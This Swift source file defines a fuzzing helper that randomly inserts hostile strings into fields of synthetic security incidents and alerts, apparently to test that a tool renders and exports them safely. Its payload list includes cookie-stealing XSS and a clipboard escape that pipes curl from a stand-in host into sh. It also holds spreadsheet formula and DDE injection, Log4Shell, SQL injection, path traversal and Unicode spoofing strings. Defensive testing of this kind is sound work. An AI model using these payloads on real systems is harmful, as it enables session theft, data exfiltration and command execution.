/// Text that an attacker would like someone to look at: now and then it gets into one field of an incident or alert.
struct Spice: Sendable {
    enum Field: Sendable {
        case title
        case description
        case displayName
        case commandLine
        case fileName
        case subject
        case comment
        case tag
        case url
        case actor
    }

    /// Where it went this time, if it did.
    let field: Field?
    let text: String

    init(percent: Int, fields: [Field], from random: inout SeededGenerator) {
        let place = random.pick(fields)
        text = random.pick(Spice.texts)
        field = random.chance(percent) ? place : nil
    }

    /// The text of a field, with the hostile part behind it where this is the field; before it where it must come first
    /// to do harm, as a formula must.
    func adding(to plain: String, as place: Field) -> String {
        guard field == place else { return plain }
        return "=+-@\t".contains(text.prefix(1)) ? "\(text) \(plain)" : "\(plain) \(text)"
    }

    static let incidentFields: [Field] = [.title, .title, .description, .comment, .tag]

    static let alertFields: [Field] = [
        .title, .title, .description, .displayName, .commandLine, .commandLine, .fileName, .fileName, .subject,
        .comment,
        .tag, .url, .actor,
    ]

    static let texts = [
        // Markup and script
        "<script>alert(document.domain)</script>",
        "\"><img src=x onerror=fetch('//collect.invalid/'+document.cookie)>",
        "</td></tr></table><h1>Signed out</h1>",
        "{{constructor.constructor('return 1')()}} ${7*7} <%= 7*7 %>",
        "[click](javascript:alert(1)) <https://collect.invalid|Open in Defender>",
        // Formulas
        "=HYPERLINK(\"https://collect.invalid/?\"&A1,\"Details\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1", "-2+3",
        // Control and escape characters
        "\u{1B}[2J\u{1B}[HAll clear, 0 incidents",
        "\u{1B}]0;root@soc\u{07}\u{1B}]8;;https://collect.invalid\u{1B}\\link\u{1B}]8;;\u{1B}\\",
        "\u{1B}]52;c;Y3VybCBodHRwczovL2NvbGxlY3QuaW52YWxpZHxzaA==\u{07}",
        "done\r\nFALSE POSITIVE  resolved  nobody",
        "line one\n| 9999 | high | resolved | Nothing to see | contoso |\n",
        "bell\u{07}back\u{08}\u{08}null\u{00}del\u{7F}c1\u{9B}31m",
        "\tcolumn\u{0B}\u{0C}break\u{2028}line\u{2029}paragraph",
        // Writing direction
        "invoice\u{202E}fdp.exe",
        "\u{2066}\u{2067}contoso\u{2069}.com\u{2069} \u{200F}\u{05E9}\u{05DC}\u{05D5}\u{05DD}",
        "\u{0645}\u{0631}\u{062D}\u{0628}\u{0627} report.pdf \u{061C}",
        // Characters of four bytes, combining and joined ones
        "\u{1F469}\u{200D}\u{1F4BB}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F} \u{1D518}\u{1D52B}\u{1D526}\u{20BB7}",
        "Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{036B}\u{033D}\u{034F}\u{0334}\u{0319}\u{0324}a\u{0308}lgo\u{0489}",
        "pa\u{200B}ypa\u{FEFF}l \u{0430}pple.com \u{AD}",
        // Template and log injection, and things that look like paths
        "%s%n%x ${jndi:ldap://collect.invalid/a}",
        "'; DROP TABLE incident; --",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    ]
}
